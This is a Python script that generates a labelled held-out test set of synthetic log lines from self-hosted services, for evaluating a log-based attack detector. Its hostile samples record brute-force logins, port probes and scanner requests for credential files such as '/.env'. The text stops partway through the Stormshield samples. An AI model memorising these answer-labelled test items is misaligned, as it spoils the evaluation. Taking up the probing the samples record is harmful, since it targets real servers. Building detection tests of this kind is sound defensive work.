#!/usr/bin/env python3
"""Tenth held-out set ("fresh9"), written blind by helper fresh9: services absent from the shared corpus and from tune/,
test/, fresh/ .. fresh8/ (checked by file name and by grepping every set's lines, this directory's README, the generators
and the shared corpus for each service's and process's name and for its key wordings), chosen from what VPS,
self-hosting, home-lab and small-business owners run: remote-desktop and notebook front ends (MeshCentral, websockify /
noVNC, code-server, JupyterHub), tunnels and proxy servers (frp's frps, trojan), a container registry (Harbor), API
gateways (Apache APISIX, KrakenD), helpdesks (Zammad, Znuny), a mail suite's blocker (mailcow's netfilter), a WAF in front
of nginx (BunkerWeb), edge routers and firewalls (Ubiquiti EdgeRouter, Stormshield SNS, pfBlockerNG), a mail gateway
(FortiMail), a small shop's cloud front (AWS WAF logs and ALB access logs), a password manager (Passbolt), a Minecraft proxy
(Velocity) and an IRC server (ngIRCd). Formats: MeshCentral's sshd-like authlog,
an RFC 3164 wrapper around a bracketed application log (trojan, Harbor), Go's log with [I]/[W] levels and run ids
(frps), nginx-style access and error logs with vendor fields (APISIX, BunkerWeb), Gin's pipe-separated access line
(KrakenD), Python http.server lines (websockify), tornado's bracketed prefix (JupyterHub), code-server's level-and-JSON
fields, Ruby Logger records of Rails requests split over lines (Zammad), OTRS-style [Priority][Module] syslog (Znuny), ngIRCd's [PID:LEVEL UPTIME] syslog, CakePHP error records closed by a
"Client IP:" line (Passbolt),
JSON log records whose message quotes another program's line (mailcow), kernel LOG lines behind a [RULE-N-A] prefix
(EdgeRouter), key=value with quoted values (FortiMail, Stormshield), a headerless CSV (pfBlockerNG), nested JSON with the
verdict as a field value and a second address in the payload (AWS WAF), and space-separated ALB records with quoted
fields. Per service NAME.log and NAME.labels.jsonl; (label, host, line): H hostile (host = the attacker), B benign, E
either (not scored), N unlabelled. Labelled by ../shared/data/README.md's definitions before LogWarden ran on any line;
the formats and where each comes from are in README.md."""
import json, sys
from collections import Counter
from heldout import H, B, E, N, write_service
J = lambda o: json.dumps(o, separators=(',', ':'), ensure_ascii=False)
S = {}

# MeshCentral's authlog file (settings.authLog): "MON D HH:MM:SS meshcentral https[PID]: Failed password for USER from
# ADDR port PORT" and "Accepted password for …", the sshd-like wording of webserver.js's
# parent.authLog('https', 'Failed password for ' + xusername + ' from ' + req.clientIp + ' port ' + …) found by the code
# search; the line prefix from knowledge of meshcentral.js (day not padded).
def mc(ts, msg): return f"May 2 08:{ts} meshcentral https[4242]: {msg}"
S['meshcentral'] = [
 (B, None, mc("02:10", "Accepted password for alice from 192.0.2.60 port 50512")),
 (H, "203.0.113.60", mc("12:44", "Failed password for admin from 203.0.113.60 port 51234")),
 (H, "203.0.113.60", mc("12:47", "Failed password for administrator from 203.0.113.60 port 51240")),
 (H, "198.51.100.60", mc("20:00", "Failed password for root from 198.51.100.60 port 40000")),
 (B, None, mc("30:00", "Accepted password for bob from 10.0.8.5 port 61000")),
 (B, None, mc("31:00", "Accepted password for alice from 2001:db8:60::5 port 50600")),
]

# trojan (trojan-gfw) under systemd, as trojan-gfw/trojan #599 and Jrohy/trojan #228 quote it: "[DATE TIME] [WARN]
# ADDR:PORT not trojan request, connecting to 127.0.0.1:80" (a probe answered by the fallback site), "[ERROR] ADDR:PORT
# SSL handshake failed: …", "[INFO] … disconnected, N bytes received, …", "authenticated by authenticator (…)" (#509), and
# "valid trojan request structure but possibly incorrect password" as a Chinese operator's runbook found by the code search
# quotes it. A plain HTTP request at the TLS port is "either".
def tj(ts, lvl, msg): return f"May  2 08:{ts} vps1 trojan[812]: [2024-05-02 08:{ts}] [{lvl}] {msg}"
S['trojan'] = [
 (B, None, tj("00:00", "WARN", "trojan service (server) started at 0.0.0.0:443")),
 (H, "203.0.113.62", tj("12:44", "WARN", "203.0.113.62:51234 not trojan request, connecting to 127.0.0.1:80")),
 (N, None, tj("12:44", "INFO", "203.0.113.62:51234 disconnected, 0 bytes received, 18 bytes sent, lasted for 0 seconds")),
 (H, "203.0.113.62", tj("12:46", "WARN", "203.0.113.62:51240 not trojan request, connecting to 127.0.0.1:80")),
 (H, "198.51.100.63", tj("20:00", "WARN", "198.51.100.63:40100 valid trojan request structure but possibly incorrect password (5d41402abc4b2a76b9719d911017c592)")),
 (E, "198.51.100.62", tj("21:00", "ERROR", "198.51.100.62:40000 SSL handshake failed: http request")),
 (B, None, tj("30:00", "INFO", "192.0.2.62:50512 authenticated by authenticator (b80b67d)")),
 (B, None, tj("30:00", "INFO", "192.0.2.62:50512 requested connection to www.example.com:443")),
 (B, None, tj("30:40", "INFO", "192.0.2.62:50512 disconnected, 48211 bytes received, 3520 bytes sent, lasted for 40 seconds")),
 (B, None, tj("31:00", "ERROR", "192.0.2.62:50600 SSL handshake failed: stream truncated")),
]

# frp's frps log ("DATE TIME [I] [file.go:N] [RUNID] message"), as fatedier/frp #3612, #3899, #2090, #4031 quote it:
# "client login info: ip [ADDR:PORT] version [...] hostname [] os [...] arch [...]" followed by "[W] [service.go:N]
# register control error: token in login doesn't match token from configuration" (the failure names no client: it
# carries the host of the login-info line just before it); the proxy and heartbeat lines from knowledge.
def fr(ts, lvl, loc, msg): return f"2024/05/02 08:{ts} [{lvl}] [{loc}] {msg}"
S['frps'] = [
 (B, None, fr("00:00", "I", "root.go:102", "frps uses config file: /etc/frp/frps.toml")),
 (B, None, fr("00:00", "I", "service.go:200", "frps tcp listen on 0.0.0.0:7000")),
 (B, None, fr("00:00", "I", "root.go:111", "frps started successfully")),
 (N, None, fr("12:44", "I", "service.go:533", "[6b5c46b4f4e4d6e7] client login info: ip [203.0.113.64:51234] version [0.52.3] hostname [] os [linux] arch [amd64]")),
 (H, "203.0.113.64", fr("12:44", "W", "service.go:410", "register control error: token in login doesn't match token from configuration")),
 (N, None, fr("12:49", "I", "service.go:533", "[9c1d2e3f4a5b6c7d] client login info: ip [203.0.113.64:51250] version [0.52.3] hostname [] os [windows] arch [amd64]")),
 (H, "203.0.113.64", fr("12:49", "W", "service.go:410", "register control error: token in login doesn't match token from configuration")),
 (B, None, fr("30:00", "I", "service.go:533", "[10d1a482c744ca63] client login info: ip [192.0.2.64:38878] version [0.52.3] hostname [] os [linux] arch [arm64]")),
 (B, None, fr("30:00", "I", "tcp.go:82", "[10d1a482c744ca63] [nas-ssh] tcp proxy listen port [6000]")),
 (B, None, fr("30:00", "I", "control.go:497", "[10d1a482c744ca63] new proxy [nas-ssh] type [tcp] success")),
 (B, None, fr("45:00", "W", "control.go:421", "[10d1a482c744ca63] heartbeat timeout")),
]

# Harbor's proxy and core logs as its log container writes them (RFC 3164 with the docker host's address as hostname):
# the proxy's nginx "timed_combined" format ('$remote_addr - "$request" $status $body_bytes_sent "$http_referer"
# "$http_user_agent" $request_time $upstream_response_time $pipe') and core's "DATE [LEVEL] [/file.go:N]: message", from
# knowledge; core's "Login failed, locking %s, and sleep for %v" (which names no client) from its auth source found by the
# code search. A registry client's first "GET /v2/" answered 401 is the normal token challenge.
def hb(ts, proc, pid, msg): return f"May  2 08:{ts} 172.18.0.1 {proc}[{pid}]: {msg}"
HUA = '"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"'
S['harbor'] = [
 (H, "203.0.113.65", hb("12:44", "proxy", 2345, f'203.0.113.65 - "POST /c/login HTTP/1.1" 401 0 "https://registry.example.org/account/sign-in" {HUA} 0.412 0.410 .')),
 (N, None, hb("12:44", "core", 2346, "2024-05-02T08:12:44Z [DEBUG] [/core/auth/authenticator.go:145]: Login failed, locking admin, and sleep for 1.5s")),
 (H, "203.0.113.65", hb("12:46", "proxy", 2345, f'203.0.113.65 - "POST /c/login HTTP/1.1" 401 0 "https://registry.example.org/account/sign-in" {HUA} 1.903 1.901 .')),
 (H, "198.51.100.65", hb("20:00", "proxy", 2345, '198.51.100.65 - "GET /service/token?account=admin&scope=repository%3Alibrary%2Fapp%3Apull&service=harbor-registry HTTP/1.1" 401 76 "-" "docker/24.0.7 go/go1.20.10 git-commit/311b9ff kernel/6.1.0 os/linux arch/amd64" 0.105 0.104 .')),
 (B, None, hb("30:00", "proxy", 2345, '192.0.2.65 - "GET /v2/ HTTP/1.1" 401 87 "-" "docker/24.0.7 go/go1.20.10 git-commit/311b9ff kernel/6.1.0 os/linux arch/amd64" 0.003 0.003 .')),
 (B, None, hb("30:00", "proxy", 2345, '192.0.2.65 - "GET /service/token?account=ci-bot&scope=repository%3Ateam%2Fweb%3Apush%2Cpull&service=harbor-registry HTTP/1.1" 200 1021 "-" "docker/24.0.7 go/go1.20.10 git-commit/311b9ff kernel/6.1.0 os/linux arch/amd64" 0.051 0.050 .')),
 (B, None, hb("30:01", "proxy", 2345, '192.0.2.65 - "PUT /v2/team/web/manifests/1.4.2 HTTP/1.1" 201 0 "-" "docker/24.0.7 go/go1.20.10 git-commit/311b9ff kernel/6.1.0 os/linux arch/amd64" 0.210 0.209 .')),
 (B, None, hb("31:00", "core", 2346, '2024-05-02T08:31:00Z [ERROR] [/lib/http/error.go:57]: {"errors":[{"code":"UNKNOWN","message":"unknown: failed to connect to tcp://10.0.9.21:8080: dial tcp 10.0.9.21:8080: connect: connection refused"}]}')),
]

# Apache APISIX access.log in its default format ('$remote_addr - $remote_user [$time_local] $http_host "$request" $status
# $body_bytes_sent $request_time "$http_referer" "$http_user_agent" $upstream_addr $upstream_status
# $upstream_response_time "$upstream_scheme://$upstream_host$upstream_uri"'), from knowledge of its config-default.yaml.
# key-auth's 401 and ip-restriction's 403 are answered by the gateway itself (no upstream); limit-count's 429 is "either".
def ap(ts, ip, req, st, size, rt, ua, up="- - -", uri='"http://api.example.org"'):
    return f'{ip} - - [02/May/2024:08:{ts} +0000] api.example.org "{req}" {st} {size} {rt} "-" "{ua}" {up} {uri}'
S['apisix'] = [
 (H, "203.0.113.66", ap("12:44", "203.0.113.66", "GET /v1/orders HTTP/1.1", 401, 47, "0.000", "python-requests/2.31.0")),
 (H, "203.0.113.66", ap("12:44", "203.0.113.66", "GET /v1/customers HTTP/1.1", 401, 47, "0.000", "python-requests/2.31.0")),
 (H, "198.51.100.66", ap("20:00", "198.51.100.66", "GET /apisix/admin/routes HTTP/1.1", 403, 51, "0.000", "Go-http-client/1.1")),
 (E, "198.51.100.67", ap("21:00", "198.51.100.67", "POST /v1/search HTTP/1.1", 429, 241, "0.000", "okhttp/4.12.0")),
 (B, None, ap("30:00", "192.0.2.66", "GET /v1/orders?page=2 HTTP/1.1", 200, 5120, "0.012", "shop-backend/2.3", "10.0.9.5:8080 200 0.011", '"http://orders.internal/v1/orders?page=2"')),
 (B, None, ap("30:05", "192.0.2.66", "POST /v1/orders HTTP/1.1", 502, 154, "0.003", "shop-backend/2.3", "10.0.9.6:8080 502 0.002", '"http://orders.internal/v1/orders"')),
 (B, None, ap("30:10", "10.0.9.1", "GET /healthz HTTP/1.1", 200, 2, "0.001", "kube-probe/1.29", "10.0.9.5:8080 200 0.001", '"http://orders.internal/healthz"')),
]

# KrakenD (CE 2.x) stdout: Gin's access line "[GIN] DATE - TIME | STATUS | LATENCY | CLIENT | METHOD "PATH"" and its own
# "[KRAKEND] DATE - TIME.ms ▶ LEVEL message" lines, from knowledge (Gin's default formatter; the code search was not
# asked). The JWT validator's 401s and the admin path's 403 are the client's; the 500 is this host's backend failing.
def gin(ts, st, lat, ip, m, p): return f'[GIN] 2024/05/02 - 08:{ts} | {st:3d} | {lat:>13} | {ip:>15} | {m:<7}  "{p}"'
def kd(ts, lvl, msg): return f"[KRAKEND] 2024/05/02 - 08:{ts} ▶ {lvl} {msg}"
S['krakend'] = [
 (B, None, kd("00:00.101", "INFO", "Starting KrakenD v2.6.2")),
 (B, None, kd("00:00.105", "INFO", "[SERVICE: Gin] Listening on port: 8080")),
 (H, "203.0.113.77", gin("12:44", 401, "312.4µs", "203.0.113.77", "GET", "/api/orders")),
 (H, "203.0.113.77", gin("12:44", 401, "288.1µs", "203.0.113.77", "GET", "/api/users/1")),
 (H, "198.51.100.77", gin("20:00", 403, "401.9µs", "198.51.100.77", "POST", "/api/admin/users")),
 (B, None, gin("30:00", 200, "12.501ms", "192.0.2.77", "GET", "/api/orders")),
 (B, None, kd("30:05.220", "ERROR", '[ENDPOINT: /api/stock] Get "http://10.0.11.5:8080/stock": dial tcp 10.0.11.5:8080: connect: connection refused')),
 (B, None, gin("30:05", 500, "3.120ms", "192.0.2.77", "GET", "/api/stock")),
 (B, None, gin("30:10", 200, "95.2µs", "10.0.11.1", "GET", "/__health")),
]

# websockify (noVNC's proxy) with --web and a token file: Python http.server lines "ADDR - - [DD/Mon/YYYY HH:MM:SS]
# message", its "ADDR: Plain non-SSL (ws://) WebSocket connection", "ADDR: Path: '…'", "connecting to: HOST:PORT",
# "handler exception: …" and http.server's "code 404, message File not found", from knowledge; the "Token '…' not found"
# wording of its token plugins from knowledge. A TLS hello at the plain port is "either".
def ws(ip, ts, msg): return f"{ip} - - [02/May/2024 08:{ts}] {msg}"
S['websockify'] = [
 (N, None, ws("203.0.113.74", "12:44", "203.0.113.74: new handler Process")),
 (H, "203.0.113.74", ws("203.0.113.74", "12:44", '"GET /wp-login.php HTTP/1.1" 404 -')),
 (H, "203.0.113.74", ws("203.0.113.74", "12:45", '"GET /.env HTTP/1.1" 404 -')),
 (E, "203.0.113.75", ws("203.0.113.75", "13:00", "code 400, message Bad HTTP/0.9 request type ('\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03')")),
 (N, None, ws("198.51.100.76", "20:01", "198.51.100.76: Path: '/websockify?token=admin'")),
 (H, "198.51.100.76", ws("198.51.100.76", "20:01", "198.51.100.76: Token 'admin' not found")),
 (B, None, ws("192.0.2.75", "30:00", "192.0.2.75: Plain non-SSL (ws://) WebSocket connection")),
 (B, None, ws("192.0.2.75", "30:00", "192.0.2.75: Path: '/websockify?token=office-pc'")),
 (B, None, ws("192.0.2.75", "30:00", "connecting to: 10.0.15.20:5900")),
 (B, None, ws("192.0.2.76", "31:00", "192.0.2.76: Path: '/websockify?token=lab-pc'")),
 (B, None, ws("192.0.2.76", "31:00", "handler exception: [Errno 111] Connection refused")),
]

# code-server's stdout ("[ISO time] level message {json fields}"): "Failed login attempt" with xForwardedFor,
# remoteAddress, userAgent and timestamp fields from its login route, from knowledge. Behind a reverse proxy the client is
# the forwarded address, not the proxy's.
def cs(ts, lvl, msg): return f"[2024-05-02T08:{ts}Z] {lvl:<5} {msg}"
def csf(xff, ra, ua, t):
    o = {}
    if xff: o["xForwardedFor"] = xff
    o.update({"remoteAddress": ra, "userAgent": ua, "timestamp": t})
    return "Failed login attempt " + J(o)
S['code-server'] = [
 (B, None, cs("00:00.101", "info", "code-server 4.89.1 5d1b3cf9c2c4a3b2cbe6cba0f1e3d9b5a1c2d3e4")),
 (B, None, cs("00:00.102", "info", "Using config file ~/.config/code-server/config.yaml")),
 (B, None, cs("00:00.350", "info", "HTTP server listening on http://0.0.0.0:8080/")),
 (H, "203.0.113.78", cs("12:44.812", "error", csf("203.0.113.78", "172.18.0.2", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", 1714637564))),
 (H, "203.0.113.78", cs("12:46.120", "error", csf("203.0.113.78", "172.18.0.2", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", 1714637566))),
 (H, "198.51.100.78", cs("20:00.455", "error", csf(None, "198.51.100.78", "python-requests/2.31.0", 1714638000))),
 (B, None, cs("30:00.000", "error", "[proxy] connect ECONNREFUSED 127.0.0.1:3000")),
]

# JupyterHub (tornado log prefix "[L DATE TIME.ms JupyterHub module:line] message"): "[W … base:875] Failed login for
# USER" (which names no client) followed by "[W … log:186] 403 POST /hub/login?next=… (@ADDR) N ms", as a fail2ban sample
# and JupyterHub issue text found by the code search quote them; request lines "(user@ADDR)" and proxy lines as
# JupyterHub's log documentation shows them.
def jh(lvl, ts, mod, msg): return f"[{lvl} 2024-05-02 08:{ts} JupyterHub {mod}] {msg}"
S['jupyterhub'] = [
 (B, None, jh("I", "00:00.812", "app:3286", "JupyterHub is now running at http://:8000")),
 (N, None, jh("W", "12:44.510", "base:875", "Failed login for admin")),
 (H, "203.0.113.79", jh("W", "12:44.512", "log:186", "403 POST /hub/login?next=%2Fhub%2F (@203.0.113.79) 312.45ms")),
 (N, None, jh("W", "12:46.020", "base:875", "Failed login for root")),
 (H, "203.0.113.79", jh("W", "12:46.022", "log:186", "403 POST /hub/login?next=%2Fhub%2F (@203.0.113.79) 298.10ms")),
 (N, None, jh("W", "20:00.100", "base:875", "Failed login for ubuntu")),
 (H, "198.51.100.79", jh("W", "20:00.102", "log:186", "403 POST /hub/login (@198.51.100.79) 305.77ms")),
 (B, None, jh("I", "30:00.200", "log:186", "302 POST /hub/login?next= -> /hub/spawn (alice@192.0.2.79) 95.12ms")),
 (B, None, jh("I", "30:12.600", "proxy:331", "Adding user alice to proxy /user/alice/ => http://10.0.12.7:8888")),
 (B, None, jh("I", "30:20.010", "log:186", "200 GET /hub/api (@10.0.12.7) 1.14ms")),
 (B, None, jh("W", "31:00.000", "base:1349", "Failing suspected API request to not-running server: /hub/user/bob/api/metrics/v1")),
]

# Zammad's production.log (Ruby Logger records "L, [ISO time #PID-TID] LEVEL -- : message") with Rails request lines
# split over several records: "Started POST "/api/v1/signin" for ADDR at …", "Processing by SessionsController#create",
# "Completed 401 Unauthorized in …", from knowledge. The 401 line names no client: it carries the host of its "Started"
# line.
def zm(l, ts, lvl, msg): return f"{l}, [2024-05-02T08:{ts} #3210-112340] {lvl:>5} -- : {msg}"
S['zammad'] = [
 (N, None, zm("I", "12:44.101234", "INFO", 'Started POST "/api/v1/signin" for 203.0.113.90 at 2024-05-02 08:12:44 +0000')),
 (N, None, zm("I", "12:44.103002", "INFO", "Processing by SessionsController#create as JSON")),
 (N, None, zm("I", "12:44.103101", "INFO", '  Parameters: {"username"=>"admin", "password"=>"[FILTERED]", "fingerprint"=>"-1851637282", "session"=>{"username"=>"admin", "password"=>"[FILTERED]", "fingerprint"=>"-1851637282"}}')),
 (H, "203.0.113.90", zm("I", "12:44.415730", "INFO", "Completed 401 Unauthorized in 312ms (Views: 0.4ms | ActiveRecord: 10.2ms | Allocations: 9123)")),
 (N, None, zm("I", "20:00.200111", "INFO", 'Started POST "/api/v1/signin" for 198.51.100.90 at 2024-05-02 08:20:00 +0000')),
 (N, None, zm("I", "20:00.201002", "INFO", "Processing by SessionsController#create as JSON")),
 (H, "198.51.100.90", zm("I", "20:00.498311", "INFO", "Completed 401 Unauthorized in 297ms (Views: 0.3ms | ActiveRecord: 9.8ms | Allocations: 8977)")),
 (B, None, zm("I", "30:00.000101", "INFO", 'Started GET "/api/v1/ticket_overviews?view=my_assigned" for 192.0.2.90 at 2024-05-02 08:30:00 +0000')),
 (B, None, zm("I", "30:00.050101", "INFO", "Completed 200 OK in 50ms (Views: 1.2ms | ActiveRecord: 20.1ms | Allocations: 15234)")),
 (B, None, zm("E", "31:00.000101", "ERROR", "Can't use Channel::Driver::Imap: #<Errno::ECONNREFUSED: Connection refused - connect(2) for 10.0.16.5:993>")),
]

# Znuny (OTRS fork) over syslog: "[Priority][Module] message" with Kernel::System::Auth::DB's "User: USER authentication
# failed, wrong password (REMOTE_ADDR: ADDR).", "User: USER doesn't exist or is invalid!!! (REMOTE_ADDR: ADDR)" and
# "authentication ok (Method: …, REMOTE_ADDR: …)", from knowledge (the code search found no copy).
def zn(ts, pid, msg, proc="OTRS-CGI-10"): return f"May  2 08:{ts} helpdesk {proc}[{pid}]: {msg}"
S['znuny'] = [
 (H, "203.0.113.89", zn("12:44", 22011, "[Notice][Kernel::System::Auth::DB::Auth] User: admin authentication failed, wrong password (REMOTE_ADDR: 203.0.113.89).")),
 (H, "203.0.113.89", zn("12:45", 22012, "[Notice][Kernel::System::Auth::DB::Auth] User: root@localhost authentication failed, wrong password (REMOTE_ADDR: 203.0.113.89).")),
 (H, "198.51.100.89", zn("20:00", 22040, "[Notice][Kernel::System::Auth::DB::Auth] User: helpdesk doesn't exist or is invalid!!! (REMOTE_ADDR: 198.51.100.89)")),
 (H, "198.51.100.88", zn("21:00", 22041, "[Notice][Kernel::System::CustomerAuth::DB::Auth] CustomerUser: info@example.org authentication failed, wrong password (REMOTE_ADDR: 198.51.100.88).")),
 (B, None, zn("30:00", 22100, "[Notice][Kernel::System::Auth::DB::Auth] User: alice authentication ok (Method: sha2, REMOTE_ADDR: 192.0.2.89).")),
 (B, None, zn("31:00", 22150, "[Error][Kernel::System::MailAccount::IMAP::_Connect] IMAPS: Can't connect to mail.example.org: Connection refused", "OTRS-otrs.Console.pl-Maint::PostMaster::MailAccountFetch-10")),
]

# mailcow's netfilter container as its log API returns NETFILTER_LOG (JSON records {"time", "priority", "message"}): the
# messages "%s matched rule id %s (%s)" (quoting the Postfix, Dovecot or UI line that matched), "Banning %s for %d
# minutes", "%d more attempts in the next %d seconds until %s is banned", "Unbanning %s", "Watching Redis channel
# F2B_CHANNEL" and "Initializing mailcow netfilter chain" from mailcow-dockerized's netfilter source found by the code
# search; the JSON record layout from knowledge of its Logger module.
def mn(t, pri, msg): return J({"time": 1714637000 + t, "priority": pri, "message": msg})
S['mailcow-netfilter'] = [
 (B, None, mn(0, "info", "Initializing mailcow netfilter chain")),
 (B, None, mn(1, "info", "Watching Redis channel F2B_CHANNEL")),
 (H, "203.0.113.72", mn(564, "warn", "203.0.113.72 matched rule id 3 (warning: unknown[203.0.113.72]: SASL LOGIN authentication failed: UGFzc3dvcmQ6)")),
 (E, "203.0.113.72", mn(564, "warn", "9 more attempts in the next 600 seconds until 203.0.113.72/32 is banned")),
 (H, "203.0.113.72", mn(590, "warn", "203.0.113.72 matched rule id 6 (dovecot: imap-login: Disconnected: Connection closed (auth failed, 1 attempts in 2 secs): user=<info@example.org>, method=PLAIN, rip=203.0.113.72, lip=172.22.1.250, TLS, session=<x0b1c2d3e4f5a6b7>)")),
 (H, "203.0.113.72", mn(700, "crit", "Banning 203.0.113.72/32 for 30 minutes")),
 (H, "198.51.100.72", mn(1000, "warn", "198.51.100.72 matched rule id 4 (warning: non-SMTP command from unknown[198.51.100.72]: GET / HTTP/1.1)")),
 (E, "203.0.113.72", mn(2500, "info", "Unbanning 203.0.113.72/32")),
 (B, None, mn(3000, "info", "Whitelist was changed, it has 2 entries")),
]

# BunkerWeb (nginx + Lua) error.log: "[BADBEHAVIOR] increased counter for IP ADDR (N/10) on server NAME (status N, scope
# service), context: ngx.timer" and "[ACCESS] bunkernet:access() call failed …, client: …" as bunkerity/bunkerweb #2606,
# #3156 quote them; the ban wording "[BADBEHAVIOR] IP ADDR is banned for Ns (10/10) on server NAME with scope service" and
# the [BLACKLIST] refusal from knowledge. A counter that a LAN client's 404 raised is benign.
def bw(ts, lvl, cid, msg): return f"2024/05/02 08:{ts} [{lvl}] 312#312: *{cid} {msg}"
S['bunkerweb'] = [
 (H, "203.0.113.73", bw("12:44", "notice", 1040, "[BADBEHAVIOR] increased counter for IP 203.0.113.73 (9/10) on server www.example.org (status 404, scope service), context: ngx.timer")),
 (H, "203.0.113.73", bw("12:44", "notice", 1042, "[BADBEHAVIOR] increased counter for IP 203.0.113.73 (10/10) on server www.example.org (status 403, scope service), context: ngx.timer")),
 (H, "203.0.113.73", bw("12:44", "warn", 1042, "[BADBEHAVIOR] IP 203.0.113.73 is banned for 86400s (10/10) on server www.example.org with scope service, context: ngx.timer")),
 (H, "198.51.100.73", bw("20:00", "warn", 2001, '[BLACKLIST] IP 198.51.100.73 is in blacklist (info = ip 198.51.100.0/24), client: 198.51.100.73, server: www.example.org, request: "GET / HTTP/1.1", host: "www.example.org"')),
 (B, None, bw("30:00", "notice", 3001, "[BADBEHAVIOR] increased counter for IP 192.0.2.73 (1/10) on server www.example.org (status 404, scope service), context: ngx.timer")),
 (B, None, bw("30:05", "error", 3002, '[ACCESS] bunkernet:access() call failed : can\'t get bunkernet db not found, client: 192.0.2.74, server: www.example.org, request: "GET /assets/app.css HTTP/2.0", referrer: "https://www.example.org/"')),
 (B, None, bw("30:10", "error", 3003, 'connect() failed (111: Connection refused) while connecting to upstream, client: 192.0.2.74, server: app.example.org, request: "GET / HTTP/2.0", upstream: "http://10.0.10.5:8080/", host: "app.example.org"')),
]

# Ubiquiti EdgeRouter (EdgeOS) syslog: the kernel's LOG lines behind the rule-set prefix "[NAME-RULE-ACTION]" (D drop,
# A accept) glued to IN=, IPv4 and IPv6 layouts, and dhcpd lines, from knowledge.
def er(ts, msg): return f"May  2 08:{ts} ubnt {msg}"
MAC = "MAC=44:d9:e7:00:00:01:00:00:5e:00:01:01:08:00"
S['edgerouter'] = [
 (H, "203.0.113.69", er("12:44", f"kernel: [WAN_LOCAL-default-D]IN=eth0 OUT= {MAC} SRC=203.0.113.69 DST=192.0.2.2 LEN=44 TOS=0x00 PREC=0x00 TTL=243 ID=54321 PROTO=TCP SPT=51234 DPT=23 WINDOW=1024 RES=0x00 SYN URGP=0")),
 (H, "203.0.113.69", er("12:45", f"kernel: [WAN_LOCAL-default-D]IN=eth0 OUT= {MAC} SRC=203.0.113.69 DST=192.0.2.2 LEN=44 TOS=0x00 PREC=0x00 TTL=243 ID=54333 PROTO=TCP SPT=51234 DPT=8291 WINDOW=1024 RES=0x00 SYN URGP=0")),
 (H, "198.51.100.69", er("20:00", f"kernel: [WAN_IN-default-D]IN=eth0 OUT=eth1 {MAC} SRC=198.51.100.69 DST=192.168.1.20 LEN=52 TOS=0x00 PREC=0x00 TTL=115 ID=2121 DF PROTO=TCP SPT=40000 DPT=3389 WINDOW=64240 RES=0x00 SYN URGP=0")),
 (H, "2001:0db8:0bad:0000:0000:0000:0000:0069", er("21:00", "kernel: [WANv6_LOCAL-default-D]IN=eth0 OUT= MAC=44:d9:e7:00:00:01:00:00:5e:00:01:01:86:dd SRC=2001:0db8:0bad:0000:0000:0000:0000:0069 DST=2001:0db8:0001:0000:0000:0000:0000:0001 LEN=80 TC=0 HOPLIMIT=52 FLOWLBL=0 PROTO=TCP SPT=51234 DPT=22 WINDOW=28800 RES=0x00 SYN URGP=0")),
 (B, None, er("30:00", "kernel: [LAN_IN-10-A]IN=eth1 OUT=eth0 MAC=44:d9:e7:00:00:02:aa:bb:cc:dd:ee:01:08:00 SRC=192.168.1.20 DST=192.0.2.80 LEN=60 TOS=0x00 PREC=0x00 TTL=63 ID=5050 DF PROTO=TCP SPT=50512 DPT=443 WINDOW=64240 RES=0x00 SYN URGP=0")),
 (B, None, er("30:10", "dhcpd: DHCPACK on 192.168.1.20 to aa:bb:cc:dd:ee:01 (laptop) via eth1")),
 (B, None, er("30:20", "kernel: [LAN_LOCAL-default-D]IN=eth1 OUT= MAC=ff:ff:ff:ff:ff:ff:aa:bb:cc:dd:ee:02:08:00 SRC=192.168.1.44 DST=192.168.1.255 LEN=78 TOS=0x00 PREC=0x00 TTL=128 ID=808 PROTO=UDP SPT=137 DPT=137 LEN=58")),
]

# FortiMail key=value logs: event/admin records ("user=… ui=GUI(ADDR) action=login status=failed reason=… msg=…") and
# history/statistics records (client_name, client_ip, disposition, classifier), from knowledge of its log reference.
def fm(ts, kv): return f"date=2024-05-02 time=08:{ts} device_id=FEVM020000000001 " + kv
S['fortimail'] = [
 (H, "203.0.113.70", fm("12:44", 'log_id=0001001223 type=event subtype=admin pri=information user=admin ui=GUI(203.0.113.70) action=login status=failed reason="bad password" msg="User admin login failed from GUI(203.0.113.70)"')),
 (H, "203.0.113.70", fm("12:45", 'log_id=0001001223 type=event subtype=admin pri=information user=administrator ui=GUI(203.0.113.70) action=login status=failed reason="unknown user" msg="User administrator login failed from GUI(203.0.113.70)"')),
 (H, "198.51.100.70", fm("20:00", 'log_id=0200000999 type=statistics pri=information session_id="44F8C1A2000123-44F8C1A2000124" client_name="unknown" client_ip="198.51.100.70" dst_ip="192.0.2.5" from="invoice@bank.example" to="ceo@example.org" polid="0:1:0" domain="example.org" subject="" mailer="mta" resolved="FAIL" direction="in" virus="" disposition="Reject" classifier="Sender Reputation" message_length="0"')),
 (B, None, fm("30:00", 'log_id=0001001223 type=event subtype=admin pri=information user=admin ui=GUI(192.0.2.70) action=login status=success reason=none msg="User admin login successfully from GUI(192.0.2.70)"')),
 (B, None, fm("30:10", 'log_id=0200000999 type=statistics pri=information session_id="44F8C1A2000200-44F8C1A2000201" client_name="mail.partner.example" client_ip="192.0.2.71" dst_ip="192.0.2.5" from="bob@partner.example" to="sales@example.org" polid="0:1:0" domain="example.org" subject="Offer" mailer="mta" resolved="OK" direction="in" virus="" disposition="Accept" classifier="Not Spam" message_length="48211"')),
 (B, None, fm("31:00", 'log_id=0003003001 type=event subtype=update pri=warning user=system ui=system action=update status=failure msg="FortiGuard antispam update failed: unable to connect to update server"')),
]

# Stormshield SNS logs (key=value with quoted values, "id=firewall time=… fw=… tz=… startime=…"): l_alarm records
# (logtype="alarm", action=block, msg=…, class=…, alarmid=…), l_filter records and the admin server's authentication
# record, from knowledge of its log description (the code search was not asked).
def ss(ts, kv): return f'id=firewall time="2024-05-02 08:{ts}" fw="SN210W00000000" tz=+0000 startime="2024-05-02 08:{ts}" ' + kv
S['stormshield'] = [
 (H, "203.0.113.91", ss("12:44", 'pri=4 srcif="Ethernet0" srcifname="out" ipproto=tcp dstif="Ethernet1" dstifname="in" proto=ms_rdp src=203.0.113.91 srcport=51234 srcportname=ephemeral_fw_tcp dst=192.0.2.10 dstport=3389 dstportname=microsoft-ts action=block msg="Port probe" class=protocol classification=0 alarmid=6 target=src logtype="alarm"')),
